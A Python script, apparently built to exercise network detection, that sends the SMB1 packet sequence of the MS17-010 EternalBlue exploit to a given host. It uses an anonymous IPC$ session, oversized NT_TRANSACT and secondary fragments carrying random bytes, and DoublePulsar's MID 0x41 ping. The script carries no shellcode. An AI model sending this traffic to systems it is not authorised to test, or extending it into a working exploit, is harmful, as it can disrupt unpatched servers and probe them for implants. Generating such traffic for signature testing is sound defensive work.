"""Sends the shapes of the MS17-010 exploitation steps (written here from MS-CIFS, not
taken from an exploit): an anonymous SMB1 session on IPC$, an NT_TRANSACT whose total
data is larger than 0xFFFF (EternalBlue's oversized FEA list) followed by
TRANSACTION2_SECONDARY fragments carrying the rest, then a TRANSACTION2 SESSION_SETUP
with MID 0x41 (DoublePulsar's ping). The payload is random bytes, not code.

Prints the sha256 of the payload sent, and the status and MID of the ping's answer.

usage: ms17_010_shapes.py HOST PORT
"""
import hashlib
import os
import socket
import struct
import sys

host, port = sys.argv[1], int(sys.argv[2])
s = socket.create_connection((host, port), timeout=10)
uid = tid = 0


def send(command, words, data, mid=1, read=True):
    header = b"\xffSMB" + bytes([command]) + b"\0\0\0\0" + bytes([0x18]) + struct.pack("<H", 0x4001)
    header += b"\0" * 12 + struct.pack("<HHHH", tid, 0xFEFF, uid, mid)
    body = header + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data
    s.sendall(b"\0" + len(body).to_bytes(3, "big") + body)
    if not read:
        return None
    head = s.recv(4, socket.MSG_WAITALL)
    n = int.from_bytes(head[1:], "big")
    reply = b""
    while len(reply) < n:
        reply += s.recv(n - len(reply))
    return reply


def status(reply):
    return struct.unpack_from("<I", reply, 5)[0]


send(0x72, b"", b"\x02NT LM 0.12\0")
# Anonymous SESSION_SETUP_ANDX (passwords in the request, both empty).
words = struct.pack("<BBHHHHIHHII", 0xFF, 0, 0, 4356, 50, 0, 0, 0, 0, 0, 0x40)
reply = send(0x73, words, b"\0\0")
assert status(reply) == 0, hex(status(reply))
uid = struct.unpack_from("<H", reply, 28)[0]
path = ("\\\\%s\\IPC$" % host).encode() + b"\0"
reply = send(0x75, struct.pack("<BBHHH", 0xFF, 0, 0, 0, 1), b"\0" + path + b"?????\0")
assert status(reply) == 0, hex(status(reply))
tid = struct.unpack_from("<H", reply, 24)[0]

payload = os.urandom(0x10FE8)
first = payload[:1000]
# NT_TRANSACT primary: 19 words of fixed fields, one setup word (function 0).
data_offset = 32 + 1 + 2 * 20 + 2 + 1  # header, count, words, byte count, pad
words = struct.pack("<BHIIIIIIIIBH", 1, 0, 30, len(payload), 30, 0, 30, data_offset + len(first), len(first), data_offset, 1, 0) + b"\0\0"
params = b"\0" * 30
reply = send(0xA0, words, b"\0" + first + params)
assert status(reply) == 0, hex(status(reply))
sent = len(first)
while sent < len(payload):
    chunk = payload[sent:sent + 4096]
    if sent + len(chunk) < len(payload):
        # NT_TRANSACT_SECONDARY: 18 words (counts and offsets of 4 bytes).
        data_offset = 32 + 1 + 36 + 2 + 1
        words = b"\0\0\0" + struct.pack("<IIIIIIII", 30, len(payload), 0, 0, 0, len(chunk), data_offset, sent) + b"\0"
        send(0xA1, words, b"\0" + chunk, read=False)
    else:
        # The last piece as TRANSACTION2_SECONDARY (9 words, counts of 2 bytes).
        data_offset = 32 + 1 + 18 + 2 + 1
        words = struct.pack("<HHHHHHHHH", 0, len(payload) & 0xFFFF, 0, 0, 0, len(chunk), data_offset, sent & 0xFFFF, 0xFFFF)
        send(0x33, words, b"\0" + chunk, read=False)
    sent += len(chunk)
print("sha256", hashlib.sha256(payload).hexdigest())

# DoublePulsar's ping: TRANSACTION2 SESSION_SETUP (0x000e) with MID 0x41.
words = struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 0x00A4D9A6, 0, 12, 66, 0, 78, 1, 0, 0x000E)
reply = send(0x32, words, b"\0" * 13, mid=0x41)
print("ping", hex(status(reply)), hex(struct.unpack_from("<H", reply, 30)[0]))
